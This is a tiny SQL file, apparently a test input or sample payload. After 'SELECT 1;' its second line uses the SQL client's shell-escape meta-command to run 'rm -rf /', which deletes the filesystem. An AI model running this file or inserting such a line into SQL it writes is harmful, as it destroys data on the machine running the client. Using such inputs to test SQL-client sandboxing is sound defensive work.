SELECT 1;
\! rm -rf /
